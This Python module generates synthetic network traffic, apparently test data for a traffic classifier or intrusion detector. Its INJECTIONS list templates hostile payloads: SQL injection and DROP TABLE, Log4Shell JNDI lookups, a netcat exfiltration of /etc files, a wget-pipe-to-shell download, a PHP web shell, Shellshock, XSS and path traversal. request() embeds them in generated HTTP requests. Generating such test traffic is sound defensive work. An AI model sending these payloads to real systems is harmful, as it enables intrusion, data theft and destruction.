"""What is said: names, pages, ciphertext, requests, and requests with code in them."""

from __future__ import annotations

from functools import cache
from random import Random
from urllib.parse import quote

SYLLABLES = (
    "ba", "ce", "di", "fo", "gu", "ha", "je", "ki", "lo", "mu", "na", "pe", "qui", "ro", "su",
    "ta", "ve", "wi", "xo", "zu", "an", "er", "in", "on", "st", "ma",
)  # fmt: skip
AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605 (KHTML, like Gecko)",
    "curl/8.5.0",
    "Debian APT-HTTP/1.3 (2.6.1)",
    "okhttp/4.12.0",
    "python-requests/2.31",
)
INJECTIONS = (
    "' OR {n}={n} -- ",
    "{n} UNION SELECT {w},{w},{n} FROM {w}_{w}--",
    "{n}'; DROP TABLE {w}; --",
    "${{jndi:ldap://{w}.{w}.test:{n}/{w}}}",
    "${{${{lower:j}}ndi:${{lower:l}}dap://{w}/{w}}}",
    ";cat /etc/{w}|nc {w} {n}",
    "$(wget http://{w}.test/{w}.sh -O- | sh)",
    "`id`;{w}",
    "../../../../../../etc/{w}%00",
    "<script>{w}('{n}')</script>",
    "\"><img src=x onerror={w}({n})>",
    "{{{{{n}*{n}}}}}",
    "%{{(#a=@{w}@{w}).(#b='{w}')}}",
    "<?php system($_GET['{w}']); ?>",
    "() {{ :;}}; /bin/{w} -c '{w} {n}'",
    "admin')) AND SLEEP({n})#",
    "[$ne]={n}&{w}[$gt]=",
)  # fmt: skip


def word(random: Random) -> str:
    """Something that can be said."""
    return "".join(random.choice(SYLLABLES) for _ in range(random.randint(1, 4)))


def cipher(random: Random, size: int) -> bytes:
    """Bytes without shape: TLS records, SSH packets, media."""
    return random.randbytes(max(size, 1))


def text(random: Random, size: int) -> bytes:
    """A page, a log or a script."""
    at = random.randrange(len(_library()) - 4096)
    found = _library()[at : at + min(size, 4096)]
    return found * (size // len(found) + 1) if size > 4096 else found


@cache
def _library() -> bytes:
    """Enough text to quote from: making it anew each time would take most of the time."""
    fixed = Random(0)
    parts = (
        fixed.choice((word(fixed), word(fixed), f"<{word(fixed)}>", '"', "\n", ","))
        for _ in range(20_000)
    )
    return " ".join(parts).encode()


def tls_hello(random: Random) -> bytes:
    """A client hello's first bytes and size."""
    size = random.choice(
        (random.randint(180, 320), random.randint(500, 620), random.randint(1200, 1800))
    )
    return b"\x16\x03\x01" + size.to_bytes(2, "big") + b"\x01" + cipher(random, size)


def host_name(random: Random) -> bytes:
    """A name as services have them, long ones of content networks too."""
    parts = [word(random) for _ in range(random.randint(1, 3))]
    if random.random() < 0.25:
        parts.insert(0, f"{word(random)[:3]}{random.randint(1, 99)}-{random.randint(1, 255)}")
    if random.random() < 0.12:
        parts.insert(0, random.randbytes(random.randint(4, 12)).hex())
    if random.random() < 0.06:
        parts.insert(0, "-".join(str(random.randint(1, 255)) for _ in range(4)))
    return (".".join(parts) + random.choice((".com", ".net", ".org", ".io", ".local"))).encode()


def device_name(random: Random) -> bytes:
    """An instance, a service or a host, as devices announce them to one another."""
    number = random.randbytes(random.choice((2, 4, 8, 16))).hex()
    first = random.choice((
        f"_{number}",
        f"{word(random)}-{number}",
        f"{word(random).title()} {word(random)} {number[:4]}",
    ))  # fmt: skip
    return f"{first}._{word(random)}._{random.choice(('tcp', 'udp'))}.local".encode()


def ping_of(random: Random, style: str, size: int) -> bytes:
    """What systems fill a ping with: a clock and a ramp, letters again and again, or zeros."""
    if style == "zeros":
        return bytes(size)
    if style == "letters":
        return (b"abcdefghijklmnopqrstuvw" * (size // 23 + 1))[:size]
    clock = random.randbytes(4) + bytes(4) + random.randbytes(3) + bytes(5)
    ramp = bytes(range(16, 256)) * (size // 240 + 1)
    return (clock + ramp)[:size]


def request(random: Random, *, injection: bool = False) -> bytes:
    """An HTTP request, with code in its address, its headers or its body where `injection`."""
    path = "/" + "/".join(word(random) for _ in range(random.randint(0, 4)))
    if random.random() < 0.5:
        pairs = [f"{word(random)}={random.choice((word(random), str(random.randint(0, 99999))))}"
                 for _ in range(random.randint(1, 6))]  # fmt: skip
        path += "?" + "&".join(pairs)
    headers = [
        f"Host: {host_name(random).decode()}",
        f"User-Agent: {random.choice(AGENTS)}",
        "Accept: */*",
    ]
    if random.random() < 0.5:
        headers.append("Accept: text/html,application/xhtml+xml;q=0.9,image/webp,*/*;q=0.8")
    if random.random() < 0.4:
        cookie = "; ".join(
            f"{word(random)}={random.randbytes(8).hex()}" for _ in range(random.randint(1, 4))
        )
        headers.append("Cookie: " + cookie)
    method, body = random.choice(("GET", "GET", "GET", "POST")), ""
    if method == "POST":
        body = random.choice((
            f'{{"{word(random)}":"{word(random)}","{word(random)}":[{random.randint(0, 99)}]}}',
            f"{word(random)}={word(random)}&{word(random)}={random.randint(0, 99)}",
        ))  # fmt: skip
    if injection:
        code = random.choice(INJECTIONS).format(n=random.randint(1, 9999), w=word(random))
        where = random.choice(("address", "address", "header", "body"))
        if where == "address":
            style = random.random()
            code = (
                quote(code)
                if style < 0.4
                else code.replace(" ", random.choice(("+", "%20", "/**/")))
            )
            path += f"{'&' if '?' in path else '?'}{word(random)}={code}"
        elif where == "header":
            headers.append(f"{random.choice(('X-Api-Version', 'Referer', 'User-Agent'))}: {code}")
        else:
            method, body = "POST", f"{word(random)}={code}"
    if body:
        headers.append(f"Content-Length: {len(body)}")
    lines = "\r\n".join([f"{method} {path} HTTP/1.1", *headers])
    return f"{lines}\r\n\r\n{body}".encode()


def response(random: Random, size: int) -> bytes:
    """An HTTP answer of about `size` bytes."""
    status = random.choice(("200 OK", "200 OK", "304 Not Modified", "404 Not Found"))
    body = (
        text(random, min(size, 4000)) + cipher(random, size - 4000)
        if size > 4000
        else text(random, size)
    )
    return (
        f"HTTP/1.1 {status}\r\nServer: {word(random)}\r\nContent-Length: {size}\r\n\r\n".encode()
        + body
    )
